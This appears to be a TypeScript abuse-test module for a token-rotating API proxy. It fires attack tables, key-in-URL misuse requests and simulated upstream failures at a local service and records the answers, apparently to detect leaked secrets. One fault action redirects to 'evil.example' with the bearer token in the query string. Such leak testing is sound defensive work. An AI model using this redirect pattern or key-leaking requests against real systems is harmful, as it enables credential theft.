/**
 * Everything that can go wrong at a running service, one thing after the other; what came back is
 * noted.
 *
 * @module
 */

import type { FaultAction, Workspace } from "../../../demo/workspace.ts";
import { BODIES } from "../attacks/bodies.ts";
import { FRAMING } from "../attacks/framing.ts";
import { KEYS } from "../attacks/keys.ts";
import { NAMES_AND_PAGES } from "../attacks/names_and_pages.ts";
import { TARGETS } from "../attacks/targets.ts";
import { fromLatin1, latin1 } from "../bytes.ts";
import { exchangeRaw } from "../raw_client.ts";
import type { ServeProcess } from "../serve_process.ts";
import type { Evidence } from "./evidence.ts";

/** Where it goes wrong. */
export interface AbuseScene {
  readonly serve: ServeProcess;
  readonly workspace: Workspace;
  readonly evidence: Evidence;
  /** The token that serves now. */
  readonly bearer: () => Promise<string>;
}

const MAX_BODY_BYTES = 100_000;
const LIMIT_MS = 20_000;

/** Settings under which each limit is soon reached. */
export const ABUSE_ENV = {
  PROXY_MAX_BODY: String(MAX_BODY_BYTES),
  PROXY_BODY_TIMEOUT: "1",
  PROXY_HEADER_TIMEOUT: "1",
  PROXY_IDLE_TIMEOUT: "1",
};

/** The whole attack table, at the door of the real service. */
export async function knock({ serve, evidence }: AbuseScene): Promise<void> {
  const port = Number(new URL(serve.origin).port);
  const wrongKey = "kt_pi_" + "0".repeat(43);
  const target = { port, key: await serve.key("pi"), wrongKey, maxBodyBytes: MAX_BODY_BYTES };
  const attacks = [...NAMES_AND_PAGES, ...KEYS, ...TARGETS, ...FRAMING, ...BODIES];
  await Promise.all(attacks.map(async ({ name, send }) => {
    const answer = await exchangeRaw({ port }, latin1(send(target))).catch(() => null);
    if (answer === null) return;
    evidence.add(`the answer to "${name}"`, `${answer.head}\n\n${fromLatin1(answer.rest)}`);
  }));
}

/** Requests that no agent should send, with its key wherever it can stand. */
export async function misuse({ serve, evidence, bearer }: AbuseScene): Promise<void> {
  const key = await serve.key("claude");
  const token = await bearer();
  const misuses: readonly [path: string, init: RequestInit][] = [
    [`/${key}/messages`, { headers: { "x-api-key": key } }],
    [`/v1/messages?key=${key}`, { method: "POST", body: "{" }],
    [`/v1/chat/completions?key=${key}`, { method: "POST", body: "{}" }],
    [`/serving-endpoints/${token}/invocations?key=${key}`, { method: "POST", body: "{}" }],
    [`/v1/messages`, { method: "POST", body: "{}", headers: { authorization: `Bearer ${token}` } }],
    [`/keyturn/status?key=${key}`, {}],
    [`/keyturn/rotate`, { method: "POST", headers: { "x-api-key": key } }],
    [`/keyturn/challenge?nonce=${key}`, {}],
    [`/metrics`, { headers: { authorization: `Basic ${btoa(`x:${key}`)}` } }],
    [`/metadata/${key}`, { headers: { "x-databricks-metadata-version": "1" } }],
    [`/health?key=${key}`, {}],
    [`/ready?token=${token}`, {}],
    [`/gemini/v1beta/models/${token}:generateContent`, { headers: { "x-goog-api-key": key } }],
  ];
  for (const [path, init] of misuses) {
    const signal = AbortSignal.timeout(LIMIT_MS);
    await evidence.addAnswer(
      `the answer at ${path}`,
      await fetch(serve.origin + path, { ...init, signal }),
    );
  }
}

/** What the workspace does to requests: among the rest it repeats the token that it was shown. */
export async function failUpstream(scene: AbuseScene): Promise<void> {
  const { serve, workspace, evidence, bearer } = scene;
  const token = await bearer();
  const own = JSON.stringify({ ["error_code"]: "X", message: `no such thing: Bearer ${token}` });
  const json = { "content-type": "application/json" };
  const actions: readonly FaultAction[] = [
    ...[400, 403, 404, 409, 429, 500, 503].flatMap((status): readonly FaultAction[] => [
      { kind: "status", status, headers: json, body: own },
      { kind: "status", status, headers: { "content-type": "text/plain" }, body: `see ${token}` },
      { kind: "status", status, headers: { ...json, "x-seen": token }, body: "{" },
    ]),
    { kind: "status", status: 401, headers: { "www-authenticate": `Bearer ${token}` }, body: own },
    { kind: "status", status: 302, headers: { location: `https://evil.example/?t=${token}` } },
    // What comes with 200 is no error and goes on as it came, whatever it says.
    { kind: "malformed" },
    { kind: "reset" },
    { kind: "cut-after", events: 1 },
    { kind: "stall-after", events: 1 },
    { kind: "hang" },
  ];
  for (const action of actions) {
    workspace.fault({ match: { path: /chat\/completions$/ }, times: 1, action });
    const about = `the answer to ${JSON.stringify(action).slice(0, 40)}`;
    const answer = await serve.chat("hello", { stream: "stream" }).catch((error) => String(error));
    if (typeof answer === "string") evidence.add(about, answer);
    else await evidence.addAnswer(about, answer);
  }
}

/** What the token API does to a rotation that is asked for. */
export async function failRotations(scene: AbuseScene): Promise<void> {
  const { serve, workspace, evidence, bearer } = scene;
  const token = await bearer();
  const actions: readonly FaultAction[] = [
    { kind: "status", status: 400, body: `{"error_code":"X","message":"${token}"}` },
    { kind: "status", status: 403, body: `no: ${token}` },
    { kind: "status", status: 500, body: `{"message":"\\u001b[31m${token}"}` },
    { kind: "malformed", body: `{"token_value":"${token}","token_info":"${token}"}` },
    { kind: "malformed", body: `<html>${token}</html>` },
    { kind: "reset" },
  ];
  const headers = { authorization: `Bearer ${await serve.key("operator")}` };
  const ask = async (path: string, method = "GET") => {
    const signal = AbortSignal.timeout(LIMIT_MS);
    return await fetch(serve.origin + path, { method, headers, signal }).catch(() => null);
  };
  for (const path of ["/api/2.0/token/create", "/api/2.0/token/list", "/api/2.0/token/delete"]) {
    for (const action of actions) {
      // The serving token and the spare try in turn.
      workspace.fault({ match: { path }, times: 2, action });
      const about = `while ${path} fails by ${action.kind}`;
      const rotated = await ask("/keyturn/rotate", "POST");
      if (rotated !== null) await evidence.addAnswer(`the rotation, ${about}`, rotated);
      for (const page of ["/metrics", "/ready"]) {
        const answer = await ask(page);
        if (answer !== null) await evidence.addAnswer(`${page}, ${about}`, answer);
      }
      const status = await ask("/keyturn/status");
      // The one place where an operator is told the metadata URL; a secret, but not one of these.
      if (status !== null) await evidence.addAnswer(`status, ${about}`, status);
    }
  }
}
